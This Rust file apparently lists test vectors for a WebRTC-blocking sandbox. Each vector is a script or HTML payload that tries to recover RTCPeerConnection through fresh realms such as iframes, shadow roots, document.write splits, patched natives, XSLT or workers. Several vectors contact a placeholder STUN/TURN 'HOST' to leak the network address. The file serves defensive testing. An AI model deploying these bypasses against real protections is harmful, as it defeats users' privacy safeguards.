//! Ways to a realm that the bridge has not been in: there, WebRTC would be whole again.

use super::{Vector, card, slow};

pub(super) const VECTORS: &[Vector] = &[
    slow(card(
        "WebRTC",
        "<script>for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'mozRTCPeerConnection']) if (self[name]) {
        const peer = new self[name]({ iceServers: [{ urls: 'stun:HOST' }, { urls: 'turn:HOST?transport=tcp', username: 'secret', credential: 'p' }] });
        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer)) }</script>")),
    card("frame by the parser", "<iframe srcdoc=\"SRCDOC\"></iframe>"),
    card(
        "frame by DOM",
        "<script>document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: nested }))</script>",
    ),
    card(
        "frames, many",
        "<script>for (let i = 0; i < 25; i++) document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: nested }))</script>",
    ),
    card("frame by innerHTML", "<div></div><script>document.querySelector('div').innerHTML = frame</script>"),
    card(
        "srcdoc by an attribute node",
        "<iframe></iframe><script>const node = document.createAttribute('srcdoc'); node.value = nested;
        document.querySelector('iframe').setAttributeNode(node)</script>",
    ),
    card(
        "frame kept and put back",
        "<script>const kept = Object.assign(document.createElement('iframe'), { srcdoc: nested }); let n = 0;
        const again = () => { if (n++ < 50) { document.body.append(kept); queueMicrotask(() => setTimeout(again)) } }; again()</script>",
    ),
    card(
        "frame in a microtask",
        "<script>Promise.resolve().then(() => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: nested })))</script>",
    ),
    card(
        "frame, then a busy loop",
        "<script>document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: nested }));
        for (const end = Date.now() + 300; Date.now() < end;);</script>",
    ),
    card("frame in svg", "<svg><foreignObject width=99 height=99><iframe srcdoc=\"SRCDOC\"></iframe></foreignObject></svg>"),
    card("javascript: frame", "<iframe src=\"javascript:parent.name='x';'SRCDOC'\"></iframe>
        <script>const inner = document.createElement('iframe'); inner.src = 'javascript:' + JSON.stringify(nested); document.body.append(inner)</script>"),
    card("object with a page", "<object type=text/html data=\"data:text/html,SRCDOC\"></object>"),
    card("embed with a page", "<embed type=text/html src=\"data:text/html,SRCDOC\">"),
    card(
        "frame in a shadow root",
        "<div></div><script>document.querySelector('div').attachShadow({ mode: 'closed' }).innerHTML = frame</script>",
    ),
    card(
        "frame in a cloned shadow root",
        "<div></div><script>const host = document.querySelector('div'), root = host.attachShadow({ mode: 'closed', clonable: true, serializable: true });
        const inner = document.implementation.createHTMLDocument();
        root.innerHTML = frame; document.body.append(host.cloneNode(true), document.importNode(host, true))</script>",
    ),
    card(
        "frame in a shadow root of another document",
        "<script>const other = document.implementation.createHTMLDocument(), host = other.createElement('div');
        other.body.append(host); host.attachShadow({ mode: 'closed' }).innerHTML = frame;
        document.body.append(document.adoptNode(host))</script>",
    ),
    card(
        "frame in a custom element",
        "<script>customElements.define('x-a', class extends HTMLElement { constructor() { super();
        this.attachShadow({ mode: 'closed' }).innerHTML = frame } connectedCallback() { this.innerHTML = frame } })</script><x-a></x-a>",
    ),
    card("declarative shadow root", "<div><template shadowrootmode=closed><iframe srcdoc=\"SRCDOC\"></iframe></template></div>"),
    card(
        "declarative shadow root, odd spelling",
        "<div><TEMPLATE\tid=a=\"b'\nSHADOWROOTMODE='OPEN'><iframe srcdoc=\"SRCDOC\"></iframe></TEMPLATE></div>",
    ),
    card(
        "declarative shadow root, odd quotes",
        "<div><template =\" b=\">\" shadowrootmode=open><iframe srcdoc=\"SRCDOC\"></iframe></template></div>",
    ),
    card(
        "declarative shadow root in a template",
        "<template id=t><div><template shadowrootmode=open><iframe srcdoc=\"SRCDOC\"></iframe></template></div></template>
        <script>document.body.append(document.querySelector('#t').content.cloneNode(true))</script>",
    ),
    card("setHTMLUnsafe", "<div></div><script>document.querySelector('div').setHTMLUnsafe(`<p>${tag} shadowrootmode=open>${frame}</template></p>`)</script>"),
    card(
        "parseHTMLUnsafe",
        "<script>document.body.append(...Document.parseHTMLUnsafe(`<p>${tag} shadowrootmode=open>${frame}</template></p>`).body.childNodes)</script>",
    ),
    card(
        "every other way to parse unsafely",
        "<div></div><script>const box = document.querySelector('div'), html = `<p>${tag} shadowrootmode=open>${frame}</template></p>`;
        for (const owner of [box, document, document.createRange(), box.attachShadow({ mode: 'open' })])
        for (let from = owner; from; from = Object.getPrototypeOf(from)) for (const name of Object.getOwnPropertyNames(from))
        if (/HTMLUnsafe/.test(name)) for (const more of [[], [{ runScripts: true }]]) try { const made = owner[name](...(/stream/.test(name) ? more : [html, ...more]));
        made?.getWriter?.().write(html) } catch {}
        if (!self.closedHere) setTimeout(() => box.setHTMLUnsafe?.(html), 300)</script>",
    ),
    card(
        "parseHTML and setHTML",
        "<div></div><script>const html = `<p>${tag} shadowrootmode=open>${frame}</template></p>`, all = { sanitizer: {} };
        try { document.querySelector('div').setHTML(html, all) } catch {}
        try { document.body.append(...Document.parseHTML(html, all).body.childNodes) } catch {}</script>",
    ),
    card(
        "shadow root by a range",
        "<script>const range = document.createRange(); range.selectNode(document.body);
        document.body.append(range.createContextualFragment(`<p>${tag} shadowrootmode=open>${frame}</template></p>`))</script>",
    ),
    card(
        "shadow root by DOMParser",
        "<script>document.body.append(...new DOMParser().parseFromString(`<p>${tag} shadowrootmode=open>${frame}</template></p>`,
        'text/html', { includeShadowRoots: true }).body.childNodes)</script>",
    ),
    card(
        "shadow root by execCommand",
        "<div contenteditable>x</div><script>getSelection().selectAllChildren(document.querySelector('div'));
        document.execCommand('insertHTML', false, `<p>${tag} shadowrootmode=open>${frame}</template></p>`)</script>",
    ),
    card("written frame", "<script>document.write(frame)</script>"),
    card(
        "written shadow root",
        "<script>document.write(`<div>${tag} shadowrootmode=open>${frame}</template></div>`)</script>",
    ),
    card(
        "written shadow root, in two calls",
        "<script>document.write('<div><temp'); document.write('late shadowroot'); document.writeln('mode=open>' + frame + '</template></div>')</script>",
    ),
    card(
        "written shadow root, letter by letter",
        "<script>for (const letter of `<div>${tag.toUpperCase()} ShadowRootMode='open'>${frame}</template></div>`) document.write(letter)</script>",
    ),
    card(
        "written shadow root, the word completed by the source",
        "<div><script>document.write(tag + ' shadowroot')</script>mode=open><iframe srcdoc=\"SRCDOC\"></iframe></template></div>",
    ),
    card(
        "written shadow root, the tag completed by the source",
        "<div><script>document.write('<templ')</script>ate shadowrootmode=open><iframe srcdoc=\"SRCDOC\"></iframe></template></div>",
    ),
    card(
        "written shadow root, the attribute in the source",
        "<div><script>document.write(tag + ' ')</script>shadowrootmode=open><iframe srcdoc=\"SRCDOC\"></iframe></template></div>",
    ),
    card(
        "written shadow root, written by what is written",
        "<script>document.write(`<div><script>document.write('<temp' + 'late ')<\\/script>shadowrootmode=open>${frame}</template></div>`)</script>",
    ),
    card(
        "written shadow root, natives patched",
        "<script>String.prototype.indexOf = () => -1; String.prototype.charCodeAt = () => 0; String.prototype.slice = function () { return `${this}` };
        String.prototype.toLowerCase = () => ''; RegExp.prototype.test = () => false; RegExp.prototype.exec = () => null;
        Array.prototype.join = () => ''; Object.prototype.length = 0; Array.prototype[Symbol.iterator] = function* () {};
        document.write('<div>' + tag + ' shadowrootmode=open>' + frame + '</template></div>')</script>",
    ),
    card(
        "written shadow root, by an object",
        "<script>let n = 0; document.write({ toString: () => n++ ? `<div>${tag} shadowrootmode=open>${frame}</template></div>` : 'x' },
        { toString: () => n++ ? `<div>${tag} shadowrootmode=open>${frame}</template></div>` : 'x' })</script>",
    ),
    card(
        "written shadow root, by the write of another document",
        "<script>const other = document.implementation.createHTMLDocument();
        try { Document.prototype.write.call(other, `<div>${tag} shadowrootmode=open>${frame}</template></div>`);
        other.close(); document.body.append(...other.body.childNodes) } catch {}</script>",
    ),
    card(
        "written shadow root, late",
        "<script>setTimeout(() => { document.open(); document.write(`<div>${tag} shadowroot`);
        document.write(`mode=open>${frame}</template></div>`); document.close() }, 100)</script>",
    ),
    card(
        "written shadow root, from a module",
        "<script type=module>document.write(`<div>${tag} shadowrootmode=open>${frame}</template></div>`)</script>",
    ),
    card(
        "tampered removal",
        "<script>for (const owner of [Element, Node, NodeList, MutationRecord, MutationObserver, Document, Array, Object, Function, Reflect])
        for (const name of Object.getOwnPropertyNames(owner.prototype ?? owner)) if (!/^(constructor|append|srcdoc)$/.test(name))
        try { Object.defineProperty(owner.prototype ?? owner, name, { value: () => undefined, configurable: true, writable: true }) } catch {}
        document.body?.append?.(frame)</script><iframe srcdoc=\"SRCDOC\"></iframe>",
    ),
    card(
        "bridge killed by document.open",
        "<script>for (const end = Date.now() + 200; Date.now() < end;);
        addEventListener('DOMContentLoaded', () => { document.open(); document.write(frame); document.close() })</script>",
    ),
    card(
        "moveBefore",
        "<div></div><script>const other = document.createElement('div'); other.innerHTML = frame;
        document.body.append(other); document.querySelector('div').moveBefore(other.firstChild, null)</script>",
    ),
    card(
        "frame by XSLT",
        "<script>const xml = (text) => new DOMParser().parseFromString(text, 'text/xml'); const xslt = new XSLTProcessor();
        xslt.importStylesheet(xml(`<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>
        <xsl:output method='html'/><xsl:template match='/'><iframe srcdoc='{a}'/></xsl:template></xsl:stylesheet>`));
        const source = xml('<a/>'); source.documentElement.textContent = nested;
        document.body.append(xslt.transformToFragment(source, document))</script>",
    ),
    card(
        "template for a target",
        "<div><?start name='t'?><?end?></div><p id=t marker=t></p><template for=t><iframe srcdoc=\"SRCDOC\"></iframe></template>",
    ),
    card(
        "realm of a popup",
        "<script>try { const popup = open('about:blank'); popup.document.write(nested) } catch {}</script>",
    ),
    card(
        "realm of an empty frame",
        "<script>const inner = document.createElement('iframe'); document.body.append(inner);
        try { if (inner.contentWindow.RTCPeerConnection) leak('realm') } catch {}</script>",
    ),
    card(
        "WebRTC in a worker",
        "<script>new Worker(URL.createObjectURL(new Blob([`if (self.RTCPeerConnection) new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] })`])))</script>",
    ),
    card(
        "constructors found again",
        "<script>for (let from = window; from; from = Object.getPrototypeOf(from)) for (const name of Reflect.ownKeys(from))
        if (/RTCPeerConnection$/.test(String(name))) leak(String(name))</script>",
    ),
];
